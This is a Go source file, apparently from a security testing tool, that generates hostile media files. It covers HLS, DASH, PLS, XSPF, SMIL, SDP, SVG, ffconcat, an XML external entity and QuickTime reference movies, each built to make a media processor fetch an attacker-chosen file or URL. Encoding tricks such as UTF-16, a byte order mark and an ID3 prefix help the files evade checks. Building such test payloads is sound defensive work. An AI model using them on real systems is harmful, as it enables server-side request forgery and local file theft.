package hostile

import (
	"encoding/binary"
	"fmt"
	"slices"
	"strings"
	"unicode/utf16"
)

// lists are the texts that make some program open other files: %s is the target, %h its host, and %p its port.
var lists = map[string]string{
	"hls.m3u8":        "#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\n%s\n#EXT-X-ENDLIST\n",
	"hls.mp4":         "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:10.0,\nconcat:%s|%s\n#EXT-X-ENDLIST\n",
	"hls-master.mp4":  "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n%s\n",
	"hls-audio.mp3":   "#EXTM3U\n#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID=\"a\",NAME=\"a\",DEFAULT=YES,URI=\"%s\"\n#EXT-X-STREAM-INF:BANDWIDTH=1,AUDIO=\"a\"\n%s\n",
	"hls-key.mp4":     "#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXT-X-KEY:METHOD=AES-128,URI=\"%s\",IV=0x1\n#EXTINF:1,\n%s\n#EXT-X-ENDLIST\n",
	"hls-map.mp4":     "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:1\n#EXT-X-MAP:URI=\"%s\"\n#EXTINF:1,\n%s\n#EXT-X-ENDLIST\n",
	"hls-range.wav":   "#EXTM3U\n#EXT-X-VERSION:4\n#EXT-X-TARGETDURATION:1\n#EXT-X-BYTERANGE:100@0\n#EXTINF:1,\n%s\n#EXT-X-ENDLIST\n",
	"hls-bom.mp4":     "\ufeff#EXTM3U\n#EXTINF:10,\n%s\n#EXT-X-ENDLIST\n",
	"plain.m3u":       "%s\n",
	"list.pls":        "[playlist]\nFile1=%s\nLength1=-1\nNumberOfEntries=1\nVersion=2\n",
	"list.xspf":       "<?xml version=\"1.0\"?><playlist version=\"1\" xmlns=\"http://xspf.org/ns/0/\"><trackList><track><location>%s</location></track></trackList></playlist>",
	"list.asx":        "<asx version=\"3.0\"><entry><ref href=\"%s\"/></entry></asx>",
	"list.smil":       "<smil><body><audio src=\"%s\"/></body></smil>",
	"reference.asf":   "[Reference]\r\nRef1=%s\r\nRef2=%s\r\n",
	"asf-text.wmv":    "ASF %s\n",
	"rtsp.mov":        "RTSPtext\r\nrtsp://%h:%p/a\r\n",
	"concat.mp4":      "ffconcat version 1.0\nfile '%s'\nduration 1\n",
	"concat-old.wav":  "file '%s'\nfile '%s'\n",
	"dash.mpd":        "<?xml version=\"1.0\"?><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" mediaPresentationDuration=\"PT9S\" profiles=\"urn:mpeg:dash:profile:isoff-on-demand:2011\"><Period><AdaptationSet mimeType=\"audio/mp4\"><Representation id=\"1\" bandwidth=\"1\"><BaseURL>%s</BaseURL></Representation></AdaptationSet></Period></MPD>",
	"dash-entity.mpd": "<?xml version=\"1.0\"?><!DOCTYPE MPD [<!ENTITY x SYSTEM \"%s\">]><MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\"><Period><BaseURL>&x;</BaseURL></Period></MPD>",
	"session.sdp":     "v=0\no=- 0 0 IN IP4 %h\ns=a\nc=IN IP4 %h\nt=0 0\na=control:%s\nm=audio %p RTP/AVP 0\n",
	"cpl.xml":         "<?xml version=\"1.0\"?><AssetMap xmlns=\"http://www.smpte-ra.org/schemas/429-9/2007/AM\"><AssetList><Asset><ChunkList><Chunk><Path>%s</Path></Chunk></ChunkList></Asset></AssetList></AssetMap>",
	"picture.svg":     "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><image xlink:href=\"%s\"/></svg>",
	"filter.mp4":      "movie=%s,amovie=%s",
	"metadata.mp4":    ";FFMETADATA1\ntitle=%s\n",
}

// playlists returns a file for each text and each target, and for the other ways to name a file.
func playlists(targets []string) []File {
	var files []File
	for i, target := range targets {
		add := func(name string, b []byte) {
			files = append(files, File{fmt.Sprintf("playlist-%d-%s", i, name), Playlist, b})
		}
		if i == 0 {
			add("utf16.m3u8", wide(fill(lists["hls.m3u8"], target)))
			add("id3.mp3", append([]byte("ID3\x04\x00\x00\x00\x00\x00\x00"), fill(lists["hls.m3u8"], target)...))
			add("reference.mov", reference(target))
		}
		for _, name := range names() {
			add(name, []byte(fill(lists[name], target)))
		}
	}
	return files
}

// names returns the names of lists in a stable order.
func names() []string {
	var list []string
	for name := range lists {
		list = append(list, name)
	}
	slices.Sort(list)
	return list
}

// fill puts a target into a text.
func fill(text, target string) string {
	host, port := "127.0.0.1", "9"
	if _, rest, ok := strings.Cut(target, "://"); ok {
		hostPort, _, _ := strings.Cut(rest, "/")
		if i := strings.LastIndexByte(hostPort, ':'); i >= 0 {
			host, port = strings.Trim(hostPort[:i], "[]"), hostPort[i+1:]
		}
	}
	return strings.NewReplacer("%s", target, "%h", host, "%p", port).Replace(text)
}

// wide returns a text as UTF-16 with a byte order mark.
func wide(text string) []byte {
	b := []byte{0xff, 0xfe}
	for _, unit := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, unit)
	}
	return b
}

// reference returns a QuickTime reference movie. Source: QuickTime File Format Specification, "Reference Movies".
func reference(target string) []byte {
	url := target + "\x00"
	rdrf := box("rdrf", "\x00\x00\x00\x00url ", string(binary.BigEndian.AppendUint32(nil, uint32(len(url)))), url)
	return []byte(box("ftyp", "qt  \x00\x00\x00\x00qt  ") + box("moov", box("rmra", box("rmda", rdrf))))
}

// box returns an ISO base media box. Source: ISO/IEC 14496-12, section 4.2.
func box(kind string, parts ...string) string {
	body := strings.Join(parts, "")
	return string(binary.BigEndian.AppendUint32(nil, uint32(len(body)+8))) + kind + body
}
